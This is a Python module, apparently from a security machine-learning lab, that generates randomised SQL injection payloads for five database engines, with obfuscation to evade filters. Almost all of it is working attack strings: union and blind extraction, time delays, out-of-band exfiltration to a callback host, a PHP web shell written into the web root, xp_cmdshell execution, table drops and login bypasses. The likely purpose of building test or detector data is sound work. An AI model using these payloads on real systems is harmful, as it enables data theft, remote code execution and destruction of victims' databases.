"""SQL injection (OWASP A03, CWE-89): union, boolean, error, time, stacked and out-of-band, for five databases."""

import re
from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS, mixed_case

_RULES: Final = rules(
    r"""
start
    «before»«break»«_»«technique»«end»
    «before»«break»«_»«technique»«end»
    «before»«break»«_»«technique»«end»
    «before»«break»«_»«technique»«end»
    «before»«break»«_»«technique»«end»
    «before»«break»«_»«technique»«end»
    «before»«break»«_»«technique»«end»
    «before»«break»«_»«technique»«end»
    «before»«break»«_»«technique»«end»
    «before»«break»«stacked»«end»
    «before»«break»«stacked»«end»
    «auth_bypass»
    «auth_bypass»
    «probe»
    «inline»
before:
    «n» «n» «word» «label» «int:1-99» «empty» «empty» «label»@«domain»
break
    '
    '
    '
    "
    ')
    '))
    ")
    )
    ))
    %'
    %')
    «empty»
    «empty»
    `
    \'
    ';
    ''
    '||
    «int:1-9»)
    ']
_
    «space»
    «space»
    «space»
    «space»
    «space»
    «space»«space»
    /**/
    /**/
    «tab»
    «nl»
    +
    /*«lower:3»*/
    /*!«digits:5»*/
    «cr»«nl»
end
    --«space»
    -- -
    --
    #
    /*
    ;--
    ;#
    -- «lower:4»
    «space»and '«n»'='«n»
    «space»or '«label»' like '«label»
    ;%00
    «empty»
    «empty»
    «empty»
    «space»limit 1 --
    «space»and («int:1-9»=«int:1-9»
    )--
technique
    «union»
    «union»
    «union»
    «boolean»
    «boolean»
    «boolean»
    «boolean»
    «error»
    «error»
    «time»
    «time»
    «order»
    «blind»
    «blind»
    «outband»
union
    union«_»«all»select«_»«columns»«source»
    union«_»«all»select«_»«columns»
    union«_»«all»(select«_»«columns»«source»)
    and«_»«n»=«n»«_»union«_»«all»select«_»«columns»«source»
    limit 0«_»union«_»select«_»«columns»«source»
    union«_»«all»select«_»*«_»from«_»(select«_»«int:1-9»)a«_»join«_»(select«_»«int:1-9»)b
    union«_»values(«columns»)
    intersect«_»select«_»«columns»«source»
    except«_»select«_»«columns»
    procedure«_»analyse(extractvalue(«n»,concat(0x3a,version())),1)
all
    all«_»
    «empty»
    «empty»
    distinct«_»
columns
    «column»
    «column»,«column»
    «column»,«column»,«column»
    «column»,«column»,«column»,«column»
    null,«column»,null
    null,null,«column»,null,null
    1,2,3,«column»,5
    1,«column»,3
    «column»,«column»,«column»,«column»,«column»,«column»
    0x«hex:8»,«column»
column
    null
    null
    «int:1-20»
    «int:1-20»
    @@version
    version()
    database()
    user()
    current_user
    current_database()
    sqlite_version()
    banner
    «ident»
    «ident»
    concat(«ident»,0x3a,«ident»)
    concat_ws(0x«hex:2»,«ident»,«ident»)
    group_concat(«ident»)
    group_concat(table_name)
    group_concat(column_name separator 0x2c)
    string_agg(«ident»,'«lower:1»')
    load_file('«unix_file»')
    load_file(0x«hex:14»)
    char(«int:40-120»,«int:40-120»,«int:40-120»)
    chr(«int:40-120»)||chr(«int:40-120»)
    '«alnum:6»'
    0x«hex:10»
    cast(«ident» as char)
    hex(«ident»)
    unhex(hex(«ident»))
    xmlagg(«ident»)
    listagg(«ident»,',')
    pg_read_file('«unix_file»')
    @@hostname
    @@datadir
    system_user
    (select«_»«ident»«source»)
source
    «_»from«_»«table»
    «_»from«_»«table»
    «_»from«_»«table»«_»where«_»«ident»='«label»'
    «_»from«_»«table»«_»where«_»«ident»=«n»
    «_»from«_»«table»«_»limit«_»«int:0-9»,1
    «_»from«_»«table»«_»limit«_»1«_»offset«_»«int:0-20»
    «_»from«_»information_schema.tables
    «_»from«_»information_schema.tables«_»where«_»table_schema=database()
    «_»from«_»information_schema.columns«_»where«_»table_name='«table»'
    «_»from«_»mysql.user
    «_»from«_»all_tables
    «_»from«_»user_tab_columns«_»where«_»rownum<«int:2-9»
    «_»from«_»dual
    «_»from«_»v$version
    «_»from«_»sysobjects«_»where«_»xtype='U'
    «_»from«_»master..sysdatabases
    «_»from«_»sys.schemas
    «_»from«_»pg_catalog.pg_tables
    «_»from«_»pg_user
    «_»from«_»pg_shadow
    «_»from«_»sqlite_master
    «_»from«_»sqlite_master«_»where«_»type='table'
    «_»from«_»«table»«_»group«_»by«_»«ident»«_»having«_»count(*)>«int:0-5»
logic:
    or or or and and || && xor
boolean
    «logic»«_»«truth»
    «logic»«_»«truth»
    «logic»«_»«truth»
    «logic»«_»not«_»«truth»
    «logic»(«truth»)
    «logic»«_»(«truth»)
    «logic»«_»«truth»«_»and«_»«truth»
    and«_»«truth»«_»or«_»«truth»
    or«_»exists(select«_»«column»«source»)
    and«_»(select«_»count(*)«source»)>«int:0-9»
    and«_»«n»=(select«_»«n»)
    or«_»«ident»«_»is«_»not«_»null
    or«_»«ident»«_»like«_»'%«lower:1»%'
    or«_»«ident»«_»in«_»(select«_»«ident»«source»)
    div«_»(«truth»)
    *(«truth»)
    rlike«_»(select«_»(case«_»when«_»(«truth»)«_»then«_»«n»«_»else«_»0x28«_»end))
    having«_»«truth»
    where«_»«truth»
truth
    «int:1-9»=«int:1-9»
    1=1
    «digits:4»=«digits:4»
    «digits:4»=«digits:4»
    '«lower:1»'='«lower:1»'
    '«alnum:4»'='«alnum:4»'
    '«n»'='«n»
    "«lower:2»"="«lower:2»"
    «n»<«n»
    «n»>«n»
    «n»«_»between«_»«n»«_»and«_»«n»
    «n»«_»in«_»(«n»,«n»)
    '«word»'«_»like«_»'«lower:1»%'
    true
    false
    not«_»false
    2*«int:2-9»=«int:2-99»
    «n»+«n»=«n»
    «n»-«n»=«n»
    «n»!=«n»
    «n»<>«n»
    0x«hex:2»=0x«hex:2»
    ascii('«lower:1»')=«int:90-122»
    length('«word»')=«int:1-9»
    char(«int:60-120»)=char(«int:60-120»)
    md5(«n»)=md5(«n»)
    «n»«_»is«_»not«_»null
    !(«n»)
    @@version>«n»
    «n»«_»regexp«_»«n»
    null«_»is«_»null
    coalesce(null,«n»)=«n»
blind
    and«_»ascii(substring((select«_»«ident»«source»),«int:1-30»,1))>«int:32-126»
    and«_»substr((select«_»«column»),«int:1-30»,1)='«lower:1»'
    and«_»ord(mid((select«_»ifnull(cast(«ident»«_»as«_»char),0x20)«source»),«int:1-40»,1))>«int:32-126»
    and«_»length((select«_»«column»))=«int:1-40»
    and«_»(select«_»substring(@@version,«int:1-5»,1))='«int:0-9»'
    and«_»unicode(substr((select«_»«ident»«source»),«int:1-9»,1))<«int:40-120»
    and«_»if(«truth»,«n»,«n»)
    and«_»(case«_»when«_»(«truth»)«_»then«_»«n»«_»else«_»«n»/0«_»end)=«n»
    or«_»iif(«truth»,«n»,«n»)=«n»
    and«_»left(«ident»,«int:1-5»)='«lower:2»'
    and«_»(select«_»top«_»1«_»«ident»«source»)«_»like«_»'«lower:1»%'
    or«_»instr(«ident»,'«lower:2»')>0
    and«_»bitand(ascii(substr(user,«int:1-9»,1)),«int:1-128»)>0
    and«_»strcmp(left('«label»',1),0x«hex:2»)=«int:0-1»
    and«_»find_in_set('«lower:2»',«ident»)
error
    and«_»extractvalue(«n»,concat(0x«hex:2»,(select«_»«column»«source»)))
    and«_»updatexml(«n»,concat(0x7e,(select«_»«column»),0x7e),«n»)
    or«_»(select«_»«n»«_»from(select«_»count(*),concat((select«_»«column»),floor(rand(0)*2))x«source»«_»group«_»by«»
    «_»x)a)
    and«_»«n»=convert(int,(select«_»«column»))
    and«_»«n»=convert(int,@@version)
    and«_»«n»=cast((select«_»«column»)«_»as«_»int)
    and«_»«n»=cast((chr(«int:60-120»)||(select«_»«column»)::text||chr(«int:60-120»))«_»as«_»numeric)
    and«_»«n»=utl_inaddr.get_host_name((select«_»«column»«_»from«_»dual))
    and«_»«n»=ctxsys.drithsx.sn(«n»,(select«_»banner«_»from«_»v$version«_»where«_»rownum=1))
    or«_»exp(~(select«_»*«_»from(select«_»«column»)«lower:1»))
    and«_»gtid_subset(concat(0x71,(select«_»«column»)),«n»)
    and«_»json_keys((select«_»convert((select«_»concat(«column»))«_»using«_»utf8)))
    or«_»polygon((select*from(select«_»name_const(version(),1))«lower:1»))
    and«_»«n»=dbms_utility.sqlid_to_sqlhash((select«_»«column»))
    procedure«_»analyse(«n»,«n»)
    and«_»xmltype(chr(60)||(select«_»«column»«_»from«_»dual))«_»is«_»not«_»null
    group«_»by«_»«ident»«_»having«_»«truth»
    and«_»«n»/(case«_»when«_»«truth»«_»then«_»0«_»else«_»1«_»end)=1
time
    and«_»sleep(«int:1-30»)
    or«_»sleep(«int:1-30»)=«n»
    and«_»(select«_»«n»«_»from«_»(select(sleep(«int:2-20»)))«lower:4»)
    and«_»if(«truth»,sleep(«int:2-20»),«n»)
    and«_»benchmark(«int:1-90»00000,md5(«n»))
    or«_»benchmark(«int:1-90»000000,sha1('«label»'))
    «logic»«_»«n»=(select«_»«n»«_»from«_»pg_sleep(«int:2-20»))
    ||pg_sleep(«int:2-20»)
    ;waitfor«_»delay«_»'0:0:«int:2-30»'
    waitfor«_»delay«_»'00:00:«int:10-30»'
    ;select«_»pg_sleep(«int:2-20»)
    and«_»«n»=dbms_pipe.receive_message('«lower:2»',«int:2-20»)
    and«_»«n»=dbms_pipe.receive_message(chr(«int:60-90»)||chr(«int:60-90»),«int:2-20»)
    and«_»«n»=like('abcdefg',upper(hex(randomblob(«int:1-9»00000000/2))))
    xor(if(now()=sysdate(),sleep(«int:2-20»),0))xor'«lower:1»
    and«_»(select«_»count(*)«_»from«_»generate_series(1,«int:1-9»000000))>0
    and«_»elt(«truth»,sleep(«int:2-9»))
    rlike«_»sleep(«int:2-15»)
    procedure«_»analyse(extractvalue(rand(),concat(0x3a,sleep(«int:2-9»))),1)
    if(«truth»)«_»waitfor«_»delay«_»'0:0:«int:2-20»'
order
    order«_»by«_»«int:1-40»
    order«_»by«_»«int:1-12»«_»desc
    group«_»by«_»«int:1-20»
    order«_»by«_»(case«_»when«_»«truth»«_»then«_»«ident»«_»else«_»«ident»«_»end)
    order«_»by«_»if(«truth»,«n»,(select«_»«n»«_»union«_»select«_»«n»))
    limit«_»«int:0-9»,«int:1-9»«_»into«_»@«lower:1»,@«lower:1»
    group«_»by«_»«ident»,«ident»«_»with«_»rollup
    asc,(select«_»«column»«source»)
outband
    union«_»select«_»load_file(concat('\\\\',(select«_»«column»),'.«callback_host»\\«lower:1»'))
    union«_»select«_»«column»«_»into«_»outfile«_»'/var/www/«lower:5».php'
    into«_»dumpfile«_»'/tmp/«lower:6»'
    union«_»select«_»'<?php«_»system($_GET[«lower:1»]);?>'«_»into«_»outfile«_»'/var/www/html/«lower:4».php'
    and«_»utl_http.request('http://«callback»/'||(select«_»«column»«_»from«_»dual))«_»is«_»null
    ;exec«_»master..xp_dirtree«_»'\\«callback_host»\«lower:3»'
    ;copy«_»(select«_»«column»)«_»to«_»program«_»'nslookup«_»«callback_host»'
    union«_»select«_»extractvalue(xmltype('<!DOCTYPE«_»r«_»SYSTEM«_»"http://«callback»/">'),'/«lower:1»')«_»from«_»dual
    and«_»dbms_ldap.init('«callback_host»',80)=1
stacked
    ;drop«_»table«_»«table»
    ;drop«_»database«_»«label»
    ;delete«_»from«_»«table»
    ;delete«_»from«_»«table»«_»where«_»«truth»
    ;insert«_»into«_»«table»«_»(«ident»,«ident»)«_»values«_»('«label»','«alnum:8»')
    ;insert«_»into«_»«table»«_»values(«n»,'«label»',«n»)
    ;update«_»«table»«_»set«_»«ident»='«label»'
    ;update«_»«table»«_»set«_»«ident»=«n»«_»where«_»«ident»='«label»'
    ;exec«_»xp_cmdshell('«plain_command»')
    ;exec«_»master.dbo.xp_cmdshell«_»'ping«_»«callback_host»'
    ;exec«_»sp_configure«_»'show advanced options',1;reconfigure
    ;shutdown
    ;declare«_»@«lower:1»«_»varchar(«int:100-8000»);set«_»@«lower:1»=0x«hex:16»;exec(@«lower:1»)
    ;create«_»user«_»«label»«_»identified«_»by«_»'«alnum:8»'
    ;grant«_»all«_»on«_»*.*«_»to«_»'«label»'
    ;truncate«_»table«_»«table»
    ;alter«_»table«_»«table»«_»drop«_»column«_»«ident»
    ;create«_»table«_»«label»(«ident»«_»text);copy«_»«label»«_»from«_»'«unix_file»'
    ;select«_»«columns»«source»
    ;begin«_»execute«_»immediate«_»'drop«_»table«_»«table»';end
    ;set«_»@«lower:2»=concat('sel','ect«_»«int:1-9»');prepare«_»«lower:1»«_»from«_»@«lower:2»;execute«_»«lower:1»
    ;attach«_»database«_»'/var/www/«lower:4».php'«_»as«_»«lower:2»
    ;call«_»«label»()
    ;rename«_»table«_»«table»«_»to«_»«label»
    ;merge«_»into«_»«table»«_»using«_»dual«_»on«_»(«truth»)
auth_bypass
    «who»'«end»
    «who»'«_»or«_»«truth»«end»
    '«_»or«_»«truth»«end»
    '='
    '«_»or«_»''='
    "«_»or«_»""="
    '-'
    '^'«n»
    «who»')«_»or«_»('«lower:1»'='«lower:1»
    «who»'/*
    '«_»or«_»«ident»«_»like«_»'%«lower:1»%'«end»
    '«_»or«_»«n»«_»limit«_»1«end»
    '«_»union«_»select«_»'«who»','«hex:32»'«end»
    «who»'«_»and«_»«truth»«end»
    '||'«n»'='«n»
    '«_»or«_»username«_»is«_»not«_»null«_»or«_»username='
    \«_»or«_»«truth»«end»
    '«_»group«_»by«_»«ident»«_»having«_»«truth»«end»
    «who»'«_»or«_»true«_»limit«_»«int:0-9»,1«end»
who:
    admin root administrator «label» user test sa «label»@«domain» manager guest
probe
    «before»'"«lower:4»<'">«lower:6»
    «before»'«space»«upper:4»«space»«n»=«n»--
    «before»'«space»and«space»'«n»'='«n»
    «before»).«lower:4»,..''"
    «n»';«n»"--
    «before»%27«_»or«_»«n»=«n»
    «n»/**/«logic»/**/«truth»
    «n»-(select«_»«n»«_»where«_»«truth»)
    (select«_»concat(0x«hex:4»,(select«_»(elt(«digits:4»=«digits:4»,1))),0x«hex:4»))
    («n»)«_»as«_»«lower:4»«_»where«_»«truth»«_»«boolean»
    case«_»when«_»«truth»«_»then«_»'«lower:1»'«_»else«_»'«lower:1»'«_»end
inline
    (select«_»«column»«source»)
    (select«_»«columns»«source»)«end»
    if(«truth»,sleep(«int:2-9»),«n»)
    «n»«_»«boolean»
    «n»«_»«time»
    -«n»«_»«union»«end»
    «n»);«time»«end»
    «n»«_»procedure«_»analyse()
    '%2b(select*from(select(sleep(«int:2-20»)))«lower:1»)%2b'
    '+(select«_»«column»)+'
    "+«logic»+«truth»+"
    «ident»,(select«_»«n»«_»from«_»(select(sleep(«int:2-9»)))«lower:1»)
    {«label»«_»«n»}«_»union«_»select«_»«columns»
    @@«label»«_»«boolean»
"""
)
_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES})
_KEYWORD: Final = re.compile(
    r"\b(union|select|from|where|and|or|order|by|group|having|sleep|insert|into|update|delete|drop|table|all|null|exec)\b"
)
_SPACE_STAND_INS: Final = ("/**/", "\t", "\n", "+", "/*!*/", "%0a", "()", "\x0b")


def payload(rng: Random) -> str:
    """One SQL injection payload, sometimes with keyword case, version comments or other white space."""
    text = _GRAMMAR.generate(rng)
    choice = rng.random()
    if choice < 0.25:
        text = text.upper() if rng.random() < 0.4 else _KEYWORD.sub(lambda found: found[0].upper(), text)
    elif choice < 0.35:
        text = _KEYWORD.sub(lambda found: mixed_case(found[0], rng), text)
    elif choice < 0.42:
        text = _KEYWORD.sub(lambda found: f"/*!{rng.choice(['', '50000', '12345'])}{found[0]}*/", text)
    elif choice < 0.46:
        stand_in = rng.choice(_SPACE_STAND_INS)
        text = (
            text.replace(" ", stand_in)
            if stand_in != "()"
            else text.replace("select ", "select(").replace(" from", ")from")
        )
    return text
